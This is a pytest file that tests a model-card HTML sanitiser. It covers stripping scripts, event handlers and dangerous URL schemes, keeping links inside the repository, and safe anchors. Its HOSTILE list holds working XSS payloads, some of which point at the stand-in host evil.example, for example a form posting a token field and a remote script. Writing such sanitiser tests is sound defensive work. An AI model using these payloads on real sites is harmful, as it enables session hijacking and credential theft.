import pytest

from hub_utils.local_hub.render import card_html

from .html_tags import Tags


def html_of(text):
    return card_html(text, files_url="/lab/m/resolve/main", pages_url="/lab/m/blob/main")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "<a href='java&#10;script:alert(1)'>click</a>",
    "<a href='&#1;javascript:alert(1)'>click</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=token><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<div onclick=alert(1) onmouseover=alert(1)>hover</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "![x](javascript:alert(1))",
    "![x](x 'a\" onerror=\"alert(1)')",
    "```python onload=alert(1)\ncode\n```",
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_moves_or_submits_survives(text):
    for tag, attributes in Tags(html_of(text)).found:
        assert tag in {"p", "a", "img", "div", "details", "pre", "code", "span"}
        assert set(attributes) <= {"href", "src", "alt", "title", "rel", "class", "id"}
        address = attributes.get("href") or attributes.get("src") or ""
        assert address == "" or address.startswith(("/lab/m/", "https://", "#"))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_around_hostile_markup_is_kept(text):
    assert "before" in html_of(f"before\n\n{text}\n\nafter")


def test_front_matter_is_not_shown():
    assert html_of("---\nlicense: mit\n---\n# Title") == '<h1 id="card-title">Title</h1>\n'


def test_rule_in_the_middle_is_no_front_matter():
    assert "<hr>" in html_of("text\n\n---\n\nmore")


def test_tables_keep_their_alignment_without_inline_styles():
    html = html_of("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_code_keeps_its_language_and_its_angle_brackets():
    html = html_of("```python\nif a < b: print('<script>')\n```")
    assert '<code class="language-python">' in html
    assert "&lt;script&gt;" in html


def test_only_language_classes_are_kept():
    assert "class" not in html_of('<code class="brand top">x</code>')


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("![m](plots/m.png)", 'src="/lab/m/resolve/main/plots/m.png"'),
        ("![m](./m.png)", 'src="/lab/m/resolve/main/m.png"'),
        ("![m](a%20b.png)", 'src="/lab/m/resolve/main/a%20b.png"'),
        ("<img src='m.png' width='200'>", 'src="/lab/m/resolve/main/m.png"'),
        ("[notes](docs/notes.md)", 'href="/lab/m/blob/main/docs/notes.md"'),
        ("[data](/datasets/lab/d)", 'href="/datasets/lab/d"'),
        ("[web](https://example.org/a?b=c)", 'href="https://example.org/a?b=c"'),
        ("[usage](#usage)", 'href="#card-usage"'),
    ],
)
def test_relative_addresses_lead_into_the_repository(source, address):
    assert address in html_of(source)


@pytest.mark.parametrize("path", ["../../secret.png", "..\\x.png", "//evil.example/x.png"])
def test_pictures_cannot_be_taken_from_outside_the_repository(path):
    assert "src=" not in html_of(f"<img src='{path}'>")
    assert "<img" not in html_of(f"![what it shows]({path})")


def test_picture_of_another_site_becomes_its_description():
    html = html_of("[![build status](https://img.example/b.svg)](https://ci.example)")
    assert "<img" not in html
    assert ">build status</a>" in html


@pytest.mark.parametrize("address", ["http://[broken", "//[::broken/x.png"])
def test_address_that_cannot_be_read_is_dropped(address):
    html = html_of(f"<a href='{address}'>a</a><img src='{address}' alt='b'>")
    assert "broken" not in html


def test_links_to_other_sites_do_not_vouch_or_leak():
    assert 'rel="noopener noreferrer nofollow"' in html_of("[x](https://example.org)")


def test_repeated_headings_get_different_anchors():
    html = html_of("## Use\n\n## Use\n")
    assert 'id="card-use"' in html
    assert 'id="card-use-1"' in html


def test_ids_cannot_collide_with_the_page():
    assert 'id="content"' not in html_of('<h1 id="content">x</h1><p id="content">y</p>')


def test_endless_card_is_cut():
    assert len(html_of("word " * 500_000)) < 500_000
